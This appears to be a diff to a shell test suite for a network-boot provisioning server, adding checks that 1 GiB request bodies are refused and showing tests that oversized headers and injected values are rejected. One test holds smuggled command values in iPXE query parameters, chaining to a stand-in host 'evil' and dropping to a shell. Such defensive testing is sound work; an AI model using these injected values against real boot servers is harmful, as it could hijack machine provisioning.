@@ -115,6 +115,17 @@ refuse 403 EPOXY-E2206 "admin API on plain HTTP" -- plain:/admin/v1/hosts
 code=$(hp /boot/stage0 -o /dev/null -w '%{http_code}' -H "X-Big: $(head -c 40000 /dev/zero | tr '\0' b)")
 [[ $code == 431 || $code == 413 || $code == 400 ]]; t_ok $? "a 40 KB header is refused by the HTTP layer ($code)"
 
+# a 1 GiB body is refused from its Content-Length without being read; a
+# chunked one (no length) is cut off at the cap
+truncate -s 1G "$T_DIR/huge"
+t0=$(date +%s)
+code=$(hs /v1/session -X POST -T "$T_DIR/huge" -H "$FORM" -o /dev/null -w '%{http_code}')
+t_is "$code" 413 "1 GiB body with Content-Length: 413 before reading it"
+code=$(hs /v1/report -X POST -T "$T_DIR/huge" -H "$FORM" -H 'Transfer-Encoding: chunked' -o /dev/null -w '%{http_code}')
+[ "$code" != 200 ] && [ "$code" != 204 ]; t_ok $? "1 GiB chunked body cut off at the cap ($code)"
+[ $(( $(date +%s) - t0 )) -le 10 ]; t_ok $? "...both within seconds"
+rm -f "$T_DIR/huge"
+
 # hostile values collected by iPXE cannot steer the stage1 script
 s=$(hp '/boot/stage1.ipxe?mac=52-54-00-12-34-56&serial=x%0achain%20http://evil/%20%7C%7C%20shell&uuid=$%7Bnet0/ip%7D&platform=efi%20%26%26%20shell&buildarch=%23!ipxe')
 words=$(grep -v '^#' <<<"$s" | grep -v '^:' | awk '{print $1}' | sort -u | tr '\n' ' ')
